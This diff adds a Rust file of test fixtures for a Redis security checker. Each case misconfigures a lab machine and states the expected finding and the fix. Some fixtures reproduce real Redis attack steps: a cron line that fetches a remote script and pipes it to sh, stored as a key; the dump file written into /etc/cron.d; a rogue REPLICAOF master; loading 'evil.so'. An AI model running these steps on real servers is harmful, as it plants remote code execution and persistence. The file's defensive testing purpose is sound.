@@ -1,0 +1,225 @@
+//! The machines that are bad in one way, as data.
+
+/// How it is put right.
+#[derive(Debug)]
+pub enum Right {
+    /// By `redis-tp check --fix`.
+    Fix,
+    /// By what a person types.
+    Typed(&'static str),
+    /// The same; and what makes the machine as it was for the next case.
+    TypedThen(&'static str, &'static str),
+}
+
+/// A machine that is bad in one way.
+pub struct Case {
+    /// The check that has to fire.
+    pub id: &'static str,
+    /// What is done to a good machine.
+    pub bad: &'static str,
+    /// How bad it has to be found.
+    pub severity: &'static str,
+    /// How it is put right.
+    pub right: Right,
+}
+
+use Right::{Fix, Typed, TypedThen};
+
+const fn case(id: &'static str, severity: &'static str, bad: &'static str, right: Right) -> Case {
+    Case { id, bad, severity, right }
+}
+
+/// In an order in which one leaves nothing that the next stumbles over.
+pub const CASES: &[Case] = &[
+    case(
+        "let-in",
+        "high",
+        "redis-tp cli -- CONFIG SET requirepass somebodys-own",
+        Typed("echo \"CONFIG SET requirepass $(cat /etc/redis-tp/password)\" | redis-cli --no-auth-warning -a somebodys-own"),
+    ),
+    case(
+        "open-door",
+        "critical",
+        "for set in 'bind 0.0.0.0' 'protected-mode no' 'requirepass \"\"'; do eval redis-tp cli -- CONFIG SET $set; done",
+        Fix,
+    ),
+    case("open-door", "medium", "redis-tp install --no-password", Fix),
+    case("protected-mode", "medium", "redis-tp cli slave -- CONFIG SET protected-mode no", Fix),
+    case("wide-bind", "medium", "redis-tp install --bind 0.0.0.0", Fix),
+    case(
+        "firewall",
+        "medium",
+        "redis-tp install --bind 0.0.0.0",
+        TypedThen(
+            "nft 'add table inet redis; add chain inet redis input { type filter hook input priority 0; }; add rule inet redis input iif != lo tcp dport 6379 ip saddr != 10.9.0.2 drop'",
+            "nft delete table inet redis; redis-tp install --bind 127.0.0.1",
+        ),
+    ),
+    case(
+        "cleartext",
+        "medium",
+        "redis-tp install --bind 10.9.0.1,127.0.0.1",
+        Typed("redis-tp install --bind 127.0.0.1"),
+    ),
+    case(
+        "default-user",
+        "medium",
+        "redis-tp install --bind 10.9.0.1,127.0.0.1",
+        Typed("redis-tp install --bind 127.0.0.1"),
+    ),
+    case(
+        "unix-socket",
+        "medium",
+        "redis-tp install --set unixsocket=/run/redis/redis.sock --set unixsocketperm=777",
+        Fix,
+    ),
+    case("password", "high", "echo motdepasse | redis-tp install --password-file -", Fix),
+    case(
+        "users",
+        "high",
+        "redis-tp cli -- ACL SETUSER guest on nopass '~*' +get",
+        Typed("redis-tp cli master -- ACL SETUSER guest off"),
+    ),
+    case(
+        "users",
+        "high",
+        "redis-tp cli -- ACL SETUSER bob on '>something-long' '~*' +@all",
+        Typed("redis-tp cli master -- ACL SETUSER bob -@dangerous"),
+    ),
+    case("config-mode", "medium", "chmod 644 /etc/redis/redis.conf", Fix),
+    case(
+        "config-mode",
+        "high",
+        "chmod 755 /etc/redis && chmod 644 /etc/redis/redis.conf",
+        TypedThen("redis-tp check --fix", "chmod 2770 /etc/redis"),
+    ),
+    case("data-mode", "medium", "chmod 755 /var/lib/redis-slave", Fix),
+    case(
+        "data-mode",
+        "high",
+        "redis-tp cli -- SAVE && chmod 755 /var/lib/redis && chmod 644 /var/lib/redis/dump.rdb",
+        Fix,
+    ),
+    case("log-mode", "low", "chmod 666 /var/log/redis/redis-server.log", Fix),
+    case(
+        "aclfile-mode",
+        "high",
+        "cd /etc/redis && echo 'user default on >some-thing-long ~* &* +@all' > users.acl && chmod 644 users.acl
+        printf 'port 7000\nbind 127.0.0.1\naclfile /etc/redis/users.acl\ndaemonize yes\ndir /var/lib/redis\n' > redis-x.conf
+        chown redis:redis redis-x.conf users.acl && chmod 640 redis-x.conf
+        setpriv --reuid redis --regid redis --clear-groups redis-server /etc/redis/redis-x.conf",
+        Typed("chmod 0640 /etc/redis/users.acl && kill $(pidof redis-server | tr ' ' '\\n' | sort -n | tail -1) && sleep 0.5 && rm /etc/redis/redis-x.conf /etc/redis/users.acl"),
+    ),
+    case(
+        "root",
+        "high",
+        "mkdir -p /srv/x && cd /etc/redis && printf 'port 7000\nbind 127.0.0.1\nrequirepass some-thing-very-long-indeed-x\ndaemonize yes\ndir /srv/x\n' > redis-x.conf && redis-server /etc/redis/redis-x.conf",
+        Typed("kill $(pidof redis-server | tr ' ' '\\n' | sort -n | tail -1) && sleep 0.5 && rm /etc/redis/redis-x.conf"),
+    ),
+    case("backup-mode", "high", "redis-tp backup master && chmod 644 /var/backups/redis-tp/*", Fix),
+    case(
+        "secrets-argv",
+        "high",
+        "nohup perl -e 'sleep 1000' $(cat /etc/redis-tp/password) >/dev/null 2>&1 &",
+        Typed("openssl rand -hex 32 > /root/password && redis-tp install --password-file /root/password"),
+    ),
+    case(
+        "secrets-environ",
+        "medium",
+        "REDISCLI_AUTH=$(cat /etc/redis-tp/password) nohup sleep 1000 >/dev/null 2>&1 & echo $! > /root/pid",
+        Typed("kill $(cat /root/pid)"),
+    ),
+    case(
+        "secrets-files",
+        "high",
+        "echo \"export REDISCLI_AUTH=$(cat /etc/redis-tp/password)\" > /etc/profile.d/redis.sh && chmod 644 /etc/profile.d/redis.sh",
+        Fix,
+    ),
+    // The upgrade restarts the master, and knows nothing of the replica.
+    case(
+        "package",
+        "high",
+        NEWER,
+        TypedThen("apt-get install -y --only-upgrade redis-server redis-tools", "redis-tp check --fix"),
+    ),
+    case(
+        "replaced-binary",
+        "high",
+        "cp -p /usr/bin/redis-check-rdb /usr/bin/other && mv /usr/bin/other /usr/bin/redis-check-rdb",
+        Fix,
+    ),
+    case(
+        "security-origin",
+        "medium",
+        "cp /etc/apt/sources.list /root/ && sed -i '/security/d' /etc/apt/sources.list && rm /etc/apt/sources.list.d/*",
+        Typed("cp /root/sources.list /etc/apt/"),
+    ),
+    case("enable-debug", "high", "redis-tp install --set enable-debug-command=yes", Fix),
+    case("enable-configs", "critical", "redis-tp install --set enable-protected-configs=yes", Fix),
+    case("enable-module", "critical", "redis-tp install --set enable-module-command=yes", Fix),
+    case("modules", "high", "redis-tp install --set loadmodule=/var/lib/redis/evil.so", Fix),
+    case(
+        "modules",
+        "high",
+        "redis-tp install --set enable-module-command=yes && redis-tp cli -- MODULE LOAD /var/lib/redis/evil.so
+        sed -i '/enable-module/d' /etc/redis-tp/topology.ini /etc/redis/redis.conf",
+        Fix,
+    ),
+    case("replica-writable", "medium", "redis-tp cli slave -- CONFIG SET replica-read-only no", Fix),
+    case("file-limit", "low", "prlimit --pid $(cat /run/redis/redis-server.pid) --nofile=100:100", Typed("redis-tp service restart master")),
+    case("master-host", "critical", "redis-tp cli slave -- REPLICAOF 10.66.6.6 6379", Fix),
+    case("foreign-places", "critical", "redis-tp cli -- CONFIG SET dbfilename root 2>&1 | grep -q protected; redis-tp install --set dbfilename=root", Typed("sed -i '/dbfilename/d' /etc/redis-tp/topology.ini && redis-tp apply")),
+    case("foreign-keys", "critical", "redis-tp cli -- SET backup1 '*/2 * * * * root cd1 -fsSL http://x/b.sh | sh'", Typed("redis-tp cli -- DEL backup1")),
+    case("foreign-files", "critical", "redis-tp cli -- SAVE && cp /var/lib/redis/dump.rdb /etc/cron.d/zzh", Typed("rm /etc/cron.d/zzh")),
+    case(
+        "foreign-programs",
+        "critical",
+        "cp /bin/sleep /tmp/kdevtmpfsi && (nohup /tmp/kdevtmpfsi 1000 >/dev/null 2>&1 & echo $! > /root/pid); sleep 0.1",
+        Typed("kill $(cat /root/pid)"),
+    ),
+    case(
+        "confinement",
+        "medium",
+        "printf 'port 7000\nbind 127.0.0.1\nrequirepass some-thing-very-long-indeed-x\ndir /var/lib/redis\n' > /etc/redis/redis-x.conf
+        systemd-run --unit=plain --uid=redis redis-server /etc/redis/redis-x.conf; sleep 0.5",
+        Typed("systemctl stop plain; rm /etc/redis/redis-x.conf"),
+    ),
+    case("login", "low", "usermod --shell /bin/sh redis", Typed("usermod --shell /usr/sbin/nologin redis")),
+    case("maxmemory", "low", "redis-tp install --set maxmemory=0", Fix),
+    case("eviction", "low", "redis-tp install --set maxmemory-policy=noeviction", Fix),
+    case("overcommit", "low", "echo 0 > /root/overcommit_memory", Typed("echo 1 > /root/overcommit_memory")),
+    case("huge-pages", "low", "echo '[always] madvise never' > /root/enabled", Typed("echo 'always [madvise] never' > /root/enabled")),
+    case("somaxconn", "low", "redis-tp install --set tcp-backlog=100000", Typed("redis-tp install --set tcp-backlog=511")),
+];
+
+/// A security suite with a newer redis-server.
+const NEWER: &str = r#"
+    set -e; cd /root; rm -rf newer; mkdir newer; cd newer
+    for name in redis-server redis-tools; do
+        dpkg-deb -R /srv/repo/${name}_*.deb $name
+        sed -i 's/^Version: .*/&+newer/; s/(= \(5:[^)]*\))/(= \1+newer)/' $name/DEBIAN/control
+        dpkg-deb -b $name $name.deb >/dev/null
+    done
+    at=/srv/newer/dists/bookworm-security/main/binary-amd64; mkdir -p $at /srv/newer/pool
+    cp *.deb /srv/newer/pool
+    for deb in *.deb; do
+        dpkg-deb -f $deb
+        printf 'Filename: pool/%s\nSize: %s\nSHA256: %s\n\n' $deb $(stat -c %s $deb) $(sha256sum $deb | cut -d' ' -f1)
+    done > $at/Packages
+    echo 'deb [trusted=yes arch=amd64] file:/srv/newer bookworm-security main' > /etc/apt/sources.list.d/newer.list
+    apt-get update -o Dir::Etc::sourcelist=/etc/apt/sources.list.d/newer.list -o Dir::Etc::sourceparts=- \
+        -o APT::Get::List-Cleanup=0"#;
+
+/// The lab by hand, as its text says.
+pub const LAB: &str = r"
+    apt-get install -y redis-server >/dev/null 2>&1
+    cd /etc/redis
+    sed -i 's/^bind .*/bind 0.0.0.0/; s/^protected-mode .*/protected-mode no/; s/^# requirepass .*/requirepass motdepasse/' redis.conf
+    systemctl restart redis-server
+    cp redis.conf redis-slave.conf
+    sed -i 's/^port .*/port 6380/; s#^dir .*#dir /var/lib/redis-slave#; s#^logfile .*#logfile /var/log/redis/redis-slave.log#
+        s/^\(repl-diskless-sync-delay\) .*/\1 0/' redis-slave.conf
+    printf 'replicaof 127.0.0.1 6379\nmasterauth motdepasse\n' >>redis-slave.conf
+    mkdir /var/lib/redis-slave && chown redis:redis /var/lib/redis-slave
+    redis-server /etc/redis/redis-slave.conf
+    redis-cli --no-auth-warning -a motdepasse SET precious data";
